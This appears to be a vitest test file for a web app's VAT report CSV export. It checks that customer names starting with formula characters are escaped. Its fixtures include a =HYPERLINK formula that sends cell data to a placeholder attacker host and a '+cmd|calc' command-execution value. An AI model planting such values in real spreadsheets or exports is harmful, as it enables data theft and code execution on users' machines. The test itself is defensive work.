import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authed, buildTestApp, registerOrg, type TestApp } from './helpers.js';
import { createCustomer, createInvoice, invoiceBody, patchStatus } from './invoices-fixtures.js';

let h: TestApp;
beforeAll(async () => {
  h = await buildTestApp();
});
afterAll(() => h?.close());

const FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")';

describe('CSV exports and formula injection (issue 33 item 5)', () => {
  it('writes a customer named =HYPERLINK(...) as text in the VAT report CSV, and amounts as numbers', async () => {
    const owner = await registerOrg(h.app);
    for (const [i, name] of [FORMULA, '+cmd|calc', '@SUM(A1:A2)', '-2+3'].entries()) {
      const customer = await createCustomer(h.app, owner, { name });
      const inv = await createInvoice(h.app, owner, invoiceBody(customer.id, { invoiceDate: `2026-03-1${i}` }));
      expect((await patchStatus(h.app, owner, inv.id, { action: 'send' })).statusCode).toBe(200);
    }
    const res = await h.app.inject(
      authed(owner.token, { method: 'GET', url: '/api/v1/reports/vat?from=2026-03-01&to=2026-03-31&format=csv' }),
    );
    expect(res.statusCode).toBe(200);
    const cells = res.body
      .split('\r\n')
      .flatMap((line) => line.split(','))
      .map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
    // No cell opens with a character a spreadsheet starts a formula with.
    expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?![\d.]+$)/.test(c))).toEqual([]);
    expect(res.body).toContain(`'=HYPERLINK(""https://attacker.example/?d=""&A1`);
    expect(cells).toContain("'+cmd|calc");
    expect(cells).toContain("'@SUM(A1:A2)");
    expect(cells).toContain("'-2+3");
  });
});
